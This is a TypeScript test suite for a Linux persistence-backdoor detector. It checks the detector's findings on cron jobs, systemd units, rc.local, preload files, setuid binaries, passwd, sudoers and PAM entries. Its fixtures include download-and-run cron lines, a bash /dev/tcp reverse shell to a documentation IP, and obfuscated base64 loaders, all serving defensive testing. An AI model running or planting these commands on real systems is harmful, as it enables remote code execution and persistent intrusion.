import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { DetectedFinding, FileKind, OpenFile } from '../detector.ts';
import { persistenceDetector } from './detector.ts';

interface Given {
  readonly path: string;
  readonly text?: string;
  readonly kind?: FileKind;
  readonly mode?: number;
  readonly uid?: number;
}

function inspect({
  path,
  text = 'x',
  kind = 'text',
  mode = 0o644,
  uid = 0,
}: Given): readonly DetectedFinding[] {
  const bytes = Buffer.from(text, 'latin1');
  const file: OpenFile = {
    path,
    kind,
    mode,
    uid,
    gid: 0,
    size: bytes.length,
    bytes,
    offset: 0,
    matches: [],
    hits: (name) => {
      const anchor = persistenceDetector.anchors?.[name];
      const at = anchor === undefined ? -1 : text.indexOf(anchor.text);
      return at < 0 ? [] : [at];
    },
  };
  if (!persistenceDetector.wants(file)) return [];
  return persistenceDetector.inspect(file, { check: () => undefined }).findings;
}

const rules = (given: Given) => inspect(given).map((one) => `${one.rule.split('/')[1]} ${one.severity}`);
const quiet = (given: Given) => inspect(given).filter((one) => one.confidence >= 0.4);

describe('the persistence detector', () => {
  it('takes a preloaded library for a backdoor unless it is one that serves a purpose', () => {
    const path = '/etc/ld.so.preload';
    assert.deepEqual(rules({ path, text: '/usr/local/lib/libprocess.so\n' }), ['preload high']);
    assert.deepEqual(rules({ path, text: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n' }), ['preload low']);
    assert.deepEqual(rules({ path, text: '/tmp/libjemalloc.so.2\n' }), ['preload high']);
    assert.deepEqual(rules({ path, text: '# nothing\n\n' }), []);
  });

  it('finds start files that fetch programs or run them from hidden places', () => {
    const fetches = '*/5 * * * * root curl -fsSL http://198.51.100.7/i.sh | sh\n';
    assert.deepEqual(rules({ path: '/etc/cron.d/a', text: fetches }), ['start-loader high']);
    assert.deepEqual(
      rules({ path: '/var/spool/cron/crontabs/root', text: '* * * * * /tmp/.x/run >/dev/null 2>&1\n' }),
      ['starts-hidden high'],
    );
    const unit = '[Service]\nExecStart=/bin/bash -c "wget -qO- http://198.51.100.7/i.sh | bash"\n';
    assert.deepEqual(rules({ path: '/etc/systemd/system/a.service', text: unit }), ['start-loader high']);
    assert.deepEqual(
      rules({ path: '/etc/systemd/system/a.service', text: '[Service]\nExecStart=/dev/shm/a\n' }),
      ['starts-hidden high'],
    );
    assert.deepEqual(rules({ path: '/root/.bashrc', text: 'alias ls=ls\nnohup /var/tmp/.ICE/a &\n' }), [
      'starts-hidden high',
    ]);
    assert.deepEqual(
      rules({
        path: '/etc/rc.local',
        text: '#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n',
        kind: 'script',
      }),
      ['reverse-shell high'],
    );
  });

  it('weighs loaders in other scripts by where they download from', () => {
    const script = (line: string) =>
      rules({ path: '/opt/run', text: `#!/bin/bash\n${line}\n`, kind: 'script', mode: 0o755 });
    assert.deepEqual(script('curl -s http://198.51.100.7/x | bash'), ['script-loader high']);
    assert.deepEqual(script('curl -fsSL https://sh.rustup.rs | sh -s -- -y'), ['script-loader info']);
    assert.deepEqual(script('curl -s http://localhost/health'), []);
    const payload = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
    assert.deepEqual(script(payload('curl -s http://198.51.100.7/x | sh')), ['script-loader high']);
    assert.deepEqual(script(payload('exec nginx -g "daemon off;"')), ['script-loader info']);
    assert.deepEqual(script('echo "$SCRIPT" | base64 -d | sh'), ['script-loader low']);
    assert.deepEqual(script('curl -L https://a.example.com/a.tgz | tar xz; ./a/run'), ['script-loader info']);
    assert.deepEqual(script('curl -L http://198.51.100.7/a.tgz | tar xz; ./a/run'), ['script-loader high']);
    assert.deepEqual(script('c""url -s "ht""tp://198.51.100.7/x" | ba\\sh'), ['script-loader high']);
  });

  it('reads scripts without a first line that says so, and says what they weigh when started', () => {
    const text = 'wget -qO- http://files.example.com/x.sh | sh\n';
    for (const place of [{ path: '/run' }, { path: '/x.sh' }, { path: '/a/b.x', mode: 0o755 }]) {
      const [found] = inspect({ text, ...place });
      assert.deepEqual(
        [found?.rule, found?.confidence, found?.whenStarted],
        ['persistence/script-loader', 0.5, 0.7],
      );
    }
    assert.deepEqual(rules({ text, path: '/srv/notes.txt' }), []);
  });

  it('knows the usual setuid programs, by name, place and content', () => {
    const setuid = (path: string, text = '\x7fELF', uid = 0) =>
      rules({ path, text, kind: 'elf', mode: 0o4755, uid });
    for (const name of [
      'bin/su',
      'usr/bin/mount',
      'usr/bin/sudo',
      'usr/lib/openssh/ssh-keysign',
      'usr/bin/chsh',
      'usr/libexec/polkit-agent-helper-1',
    ]) {
      assert.deepEqual(setuid(`/${name}`), [], name);
    }
    assert.deepEqual(setuid('/usr/bin/su', '\x7fELF @(#)Bash version 5.2'), ['setuid-shell high']);
    assert.deepEqual(setuid('/usr/bin/python3.11'), ['setuid-shell high']);
    assert.deepEqual(setuid('/usr/local/bin/own-tool'), ['setuid low']);
    assert.deepEqual(setuid('/usr/local/bin/own-tool', '\x7fELF', 1000), ['setuid info']);
    assert.ok(setuid('/tmp/su').includes('setuid-shell high'));
  });

  it('finds programs in places and under names made to be overlooked', () => {
    const program = (path: string) => rules({ path, text: '\x7fELF', kind: 'elf', mode: 0o755 });
    assert.deepEqual(program('/usr/lib/.../a'), ['hidden-program high']);
    assert.deepEqual(program('/var/tmp/.X11/a'), ['hidden-program high']);
    assert.deepEqual(program('/dev/shm/a'), ['hidden-program high']);
    assert.deepEqual(program('/usr/lib/.x/a'), ['hidden-program medium']);
    assert.deepEqual(program('/usr/bin/[kworker/0:0]'), ['kernel-thread-name high']);
    assert.deepEqual(program('/usr/sbin/kswapd0'), ['kernel-thread-name high']);
    assert.deepEqual(program('/var/www/logo.jpg'), ['disguised-program high']);
    for (const path of [
      '/usr/bin/[',
      '/root/.cargo/bin/rg',
      '/usr/lib/debug/.build-id/a',
      '/usr/bin/migration',
      '/usr/lib/nftables.so',
    ]) {
      assert.deepEqual(program(path), [], path);
    }
  });

  it('finds accounts and logins that were opened', () => {
    const passwd = (line: string) =>
      rules({ path: '/etc/passwd', text: `root:x:0:0:root:/root:/bin/bash\n${line}\n` });
    assert.deepEqual(passwd('sys2:x:0:0::/:/bin/bash'), ['root-account high']);
    assert.deepEqual(passwd('a::1000:1000::/:/bin/bash'), ['account-password medium']);
    assert.deepEqual(passwd('daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin'), []);
    assert.deepEqual(rules({ path: '/etc/sudoers.d/a', text: 'www-data ALL=(ALL) NOPASSWD: ALL\n' }), [
      'sudo-without-password medium',
    ]);
    assert.deepEqual(rules({ path: '/etc/sudoers', text: '%sudo ALL=(ALL:ALL) ALL\n' }), []);
    assert.deepEqual(rules({ path: '/etc/pam.d/sshd', text: 'auth sufficient pam_permit.so\n' }), [
      'pam high',
    ]);
    assert.deepEqual(
      rules({
        path: '/etc/pam.d/common-auth',
        text: 'auth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n',
      }),
      [],
    );
    assert.deepEqual(
      rules({ path: '/etc/ssh/sshd_config', text: '#PermitRootLogin yes\nPermitEmptyPasswords yes\n' }),
      ['sshd medium'],
    );
  });

  it('never shows a password hash', () => {
    const [finding] = inspect({
      path: '/etc/shadow',
      text: 'root:$6$abcdefgh$secretsecretsecret:19000:0:::::\nbin:*:1::::::\n',
    });
    assert.equal(finding?.excerpt, 'root:$6$…');
    assert.equal(finding?.severity, 'medium');
  });

  it('stays quiet on what Debian installs', () => {
    for (const given of [
      {
        path: '/etc/crontab',
        text: '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
      },
      {
        path: '/etc/cron.d/e2scrub_all',
        text: '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
      },
      {
        path: '/usr/lib/systemd/system/ssh.service',
        text: '[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n',
      },
      { path: '/root/.bashrc', text: "# export LS_OPTIONS='--color=auto'\n" },
      { path: '/usr/lib/systemd/system/tmp.service', text: '[Service]\nExecStart=/bin/rm -rf /tmp/x\n' },
      {
        path: '/usr/share/doc/x/examples/run.sh',
        text: '#!/bin/sh\ncurl http://198.51.100.7/x | sh\n',
        kind: 'script' as const,
      },
    ]) {
      assert.deepEqual(quiet(given), [], given.path);
    }
  });
});
